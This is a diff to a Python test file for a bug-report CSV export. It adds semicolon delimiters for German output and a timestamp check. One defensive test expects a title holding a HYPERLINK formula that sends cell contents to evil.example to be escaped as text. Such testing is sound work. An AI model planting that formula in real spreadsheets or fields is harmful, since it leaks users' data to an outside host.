@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import secrets
 from typing import Any
 
@@ -15,11 +16,11 @@ from tests.support.admin_ui import report
 from tests.support.clients import WIDGET_METADATA, ApiClient, TenantFactory
 
 
-def rows_of(answer: Any) -> list[list[str]]:
+def rows_of(answer: Any, delimiter: str = ",") -> list[list[str]]:
     assert answer.status_code == 200, answer.text
     assert answer.headers["content-type"] == "text/csv; charset=utf-8"
     assert answer.text.startswith("\ufeff")  # spreadsheet programs tell UTF-8 by it
-    return list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
+    return list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")), delimiter=delimiter))
 
 
 async def test_the_file_holds_every_report_the_filters_match_in_the_lists_order(
@@ -54,6 +55,7 @@ async def test_the_file_holds_every_report_the_filters_match_in_the_lists_order(
         ]
         assert [row[1] for row in rows[1:]] == [f"Checkout fails {number}" for number in range(5)]
         assert {(row[2], row[3], row[4]) for row in rows[1:]} == {("Shop", "New", "Critical")}
+        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", rows[1][11])  # ISO 8601, to the second, UTC
 
 
 async def test_a_formula_in_a_title_is_text_and_the_words_are_the_readers(tenants: TenantFactory) -> None:
@@ -64,7 +66,8 @@ async def test_a_formula_in_a_title_is_text_and_the_words_are_the_readers(tenant
         tagged = await tenant.client.patch(f"/api/v1/reports/{formula['id']}", json={"tags": ["結帳"]})
         assert tagged.status_code == 200, tagged.text
         await report(tenant.client, shop["apiKey"], "-1 item in the cart", severity="high")
-        rows = rows_of(await tenant.client.get("/ui/reports.csv", params={"lang": "de"}))
+        # German spreadsheets write 1,5 for one and a half, and split lines at semicolons.
+        rows = rows_of(await tenant.client.get("/ui/reports.csv", params={"lang": "de"}), delimiter=";")
         assert rows[0][:5] == ["ID", "Titel", "Projekt", "Status", "Schweregrad"]
         assert [row[1] for row in rows[1:]] == ["'-1 item in the cart", '\'=HYPERLINK("https://evil.example/?"&A1)']
         assert rows[1][4] == "Hoch"
